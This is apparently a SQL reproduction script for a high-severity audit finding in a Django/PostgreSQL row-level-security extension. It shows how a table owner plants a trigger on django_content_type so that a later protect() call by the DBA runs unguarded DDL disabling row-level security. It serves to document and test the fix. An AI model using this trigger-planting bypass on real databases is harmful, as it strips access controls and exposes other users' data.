-- Finding 2 (HIGH): protect() writes its content type into django_content_type as that table's
-- owner, inside the tamper guard's "generated DDL" window. A trigger the owner planted there
-- runs DDL unguarded: it turns off RLS on the owner's protected table.
-- main: secret relrowsecurity = f, relforcerowsecurity = f; nobody reads both rows.
-- fixed: the planted ALTER is refused (2BP01), protect fails, RLS stays.
\ir setup.sql
GRANT repro3_app TO repro3_dba;
SET ROLE repro3_app;
CREATE TABLE secret (id integer PRIMARY KEY, owner_id integer NOT NULL, body text);
INSERT INTO secret VALUES (1, 1, 'ann''s'), (3, 3, 'bob''s');
GRANT SELECT ON secret TO PUBLIC;
RESET ROLE;
SET ROLE repro3_dba;
SELECT length(authz.protect('secret', '{"model": "blog.Secret", "owner": {"column": "owner_id"}}')) > 0 AS secret_protected;
RESET ROLE;
REVOKE repro3_app FROM repro3_dba;
SET ROLE repro3_app;
ALTER TABLE secret DISABLE ROW LEVEL SECURITY;   -- refused by the guard, as it should be
CREATE FUNCTION plant() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    ALTER TABLE public.secret NO FORCE ROW LEVEL SECURITY;
    ALTER TABLE public.secret DISABLE ROW LEVEL SECURITY;
    RETURN NULL;
END $$;
CREATE TRIGGER zz_plant AFTER INSERT ON django_content_type FOR EACH STATEMENT EXECUTE FUNCTION plant();
RESET ROLE;
SET ROLE repro3_dba;   -- later, the DBA protects a table of its own (a Django migration's Protect)
CREATE TABLE notes (id integer PRIMARY KEY, owner_id integer NOT NULL);
SELECT length(authz.protect('notes', '{"model": "blog.Note", "owner": {"column": "owner_id"}}')) > 0 AS notes_protected;
RESET ROLE;
SELECT relrowsecurity, relforcerowsecurity FROM pg_class WHERE oid = 'secret'::regclass;
SET ROLE repro3_app;
SELECT * FROM secret;
RESET ROLE;
\ir teardown.sql
